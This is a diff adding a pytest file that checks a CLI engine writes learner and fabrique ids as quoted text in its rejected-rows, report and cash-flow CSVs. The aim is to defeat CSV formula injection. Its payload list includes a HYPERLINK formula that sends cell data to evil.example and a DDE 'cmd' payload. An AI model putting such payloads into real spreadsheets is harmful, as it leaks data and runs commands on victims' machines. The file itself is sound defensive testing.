@@ -1,0 +1,48 @@
+"""CSV formula injection: learner and fabrique ids that a spreadsheet would run as formulas (`=HYPERLINK(…)`,
+`+…`, `-…`, `@…`, a leading tab) are decided like any other id, and every CSV the engine writes — the rejected
+rows, the report's CSV directory, the payment run's cash flow — shows them as text, never as a formula."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from conftest import assert_clean_failure, cli
+from test_hostile_input import HEADER, _csv_line
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "=1+1"]
+START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path) -> None:
+    rows = [HEADER]
+    for n, formula in enumerate(FORMULAS):
+        rows.append(_csv_line(learner_id=formula[:200], fabrique_id=f"{formula[:150]}{n}"))  # granted
+        rows.append(_csv_line(learner_id=formula[:200] + "x", revenu_brut_global="lots"))  # rejected
+    path = tmp_path / "in.csv"
+    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    db = f"sqlite:///{tmp_path / 's.db'}"
+    batch = cli("batch", str(path), "--db", db, "--rejected", str(tmp_path / "rejected.csv"), "--jobs", "1")
+    assert batch.exit_code == 0, batch.stderr
+    report = cli("report", "--db", db, "--csv", str(tmp_path / "csv"), "--cash-flow", str(tmp_path / "cash.csv"),
+                 "--json")
+    assert report.exit_code == 0, report.stderr
+    assert_clean_failure(batch.stderr + report.stderr)
+    files = [tmp_path / "rejected.csv", tmp_path / "cash.csv", *sorted((tmp_path / "csv").glob("*.csv"))]
+    assert len(files) >= 10
+    seen = 0
+    for file in files:
+        for cell in _cells(file):
+            assert not cell.startswith(START), f"{file.name}: {cell!r} would run as a formula"
+            seen += cell.startswith("'") and cell[1:].startswith(START)
+    rejected = _cells(tmp_path / "rejected.csv")
+    assert all(f"'{f.strip()}x" in rejected for f in FORMULAS), "rejected ids are read stripped"
+    cash = _cells(tmp_path / "cash.csv")
+    assert all(f"'{f[:200]}" in cash for f in FORMULAS), "granted learners appear in the payment run, as text"
+    assert seen >= 3 * len(FORMULAS)
